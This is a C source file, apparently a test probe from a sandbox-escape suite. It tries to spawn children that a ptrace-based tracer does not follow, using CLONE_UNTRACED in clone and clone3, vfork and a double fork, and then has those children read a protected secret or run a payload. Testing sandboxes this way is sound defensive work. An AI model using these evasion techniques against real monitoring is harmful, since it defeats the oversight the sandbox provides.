/* child_escape: make a child the tracer does not hold, and let it read the secret.
 *
 *   child_escape MODE SECRET [PAYLOAD]
 *
 * MODE: untraced_clone   clone(CLONE_UNTRACED|SIGCHLD): the flag a debugger uses to keep
 *                        its helpers out of the trace (flags in a register)
 *       untraced_clone3  clone3 with CLONE_UNTRACED in struct clone_args (flags in memory,
 *                        where a BPF filter cannot look)
 *       vfork_read       vfork; the child reads the secret before _exit (it shares our memory)
 *       vfork_exec       vfork + execve(PAYLOAD), which the policy refuses
 *       double_fork      fork, fork again, the middle process exits at once: the grandchild
 *                        is reparented (setsid, like a daemon) and then reads the secret
 * Children report through a pipe (or, for vfork, shared memory).  ESCAPED when a child read
 * the secret or the payload ran.
 * Class 4 (children that slip away).
 */
#include "attack.h"

#include <linux/sched.h>
#include <sys/mman.h>

static int child_reads(const char *secret) {
    int fd = open(secret, O_RDONLY);
    if (fd < 0)
        return -errno;
    return is_secret_fd(fd) ? 1 : 0;
}

/* run in a child: read the secret, write the result and our TracerPid to the pipe */
static void child_report(int wfd, const char *secret) {
    int r = child_reads(secret);
    dprintf(wfd, "%d %d\n", r, tracer_pid());
    _exit(0);
}

static void parent_verdict(int rfd, pid_t pid, const char *what) {
    char buf[64] = "";
    int r = 0, tp = -1;
    ssize_t n = read(rfd, buf, sizeof buf - 1);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    if (n <= 0)
        blocked("%s: the child reported nothing (it died or never ran)", what);
    buf[n] = 0;
    sscanf(buf, "%d %d", &r, &tp);
    note("%s: child TracerPid %d", what, tp);
    if (r == 1)
        escaped("%s: the child read the secret (TracerPid %d)", what, tp);
    blocked("%s: the child could not read the secret (%s)", what, r < 0 ? ename(-r) : "other");
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("child_escape MODE SECRET [PAYLOAD]");
    const char *mode = argv[1], *secret = argv[2];
    int p[2];
    if (pipe(p) < 0)
        blocked("pipe: %s", ename(errno));
    if (!strcmp(mode, "untraced_clone")) {
        long pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
        if (pid < 0)
            blocked("clone(CLONE_UNTRACED): %s", ename(errno));
        if (pid == 0)
            child_report(p[1], secret);
        close(p[1]);
        parent_verdict(p[0], (pid_t)pid, "clone(CLONE_UNTRACED)");
    } else if (!strcmp(mode, "untraced_clone3")) {
        struct clone_args args = {.flags = CLONE_UNTRACED, .exit_signal = SIGCHLD};
        long pid = syscall(SYS_clone3, &args, sizeof args);
        if (pid < 0)
            blocked("clone3(CLONE_UNTRACED): %s", ename(errno));
        if (pid == 0)
            child_report(p[1], secret);
        close(p[1]);
        parent_verdict(p[0], (pid_t)pid, "clone3(CLONE_UNTRACED)");
    } else if (!strcmp(mode, "vfork_read")) {
        volatile int *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                                    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        *shared = 0;
        pid_t pid = vfork();
        if (pid == 0) {
            *shared = child_reads(secret);
            _exit(0);
        }
        waitpid(pid, NULL, 0);
        if (*shared == 1)
            escaped("the vfork child read the secret");
        blocked("the vfork child could not read it (%s)", *shared < 0 ? ename(-*shared) : "?");
    } else if (!strcmp(mode, "vfork_exec")) {
        if (argc < 4)
            usage("vfork_exec needs PAYLOAD");
        const char *marker = getenv("ESC_MARKER");
        volatile int err = 0;
        pid_t pid = vfork();
        if (pid == 0) {
            char *args[] = {argv[3], NULL};
            execve(argv[3], args, environ);
            err = errno;
            _exit(127);
        }
        waitpid(pid, NULL, 0);
        if (marker && exists(marker))
            escaped("the payload ran from a vfork child");
        blocked("vfork + execve: %s", err ? ename(err) : "the payload did not run");
    } else if (!strcmp(mode, "double_fork")) {
        pid_t mid = fork();
        if (mid == 0) {
            if (fork() == 0) {
                setsid();
                usleep(300000); /* the middle process is gone: we are an orphan now */
                child_report(p[1], secret);
            }
            _exit(0);
        }
        close(p[1]);
        waitpid(mid, NULL, 0);
        parent_verdict(p[0], -1, "double fork, orphaned grandchild");
    }
    usage("MODE: untraced_clone untraced_clone3 vfork_read vfork_exec double_fork");
}
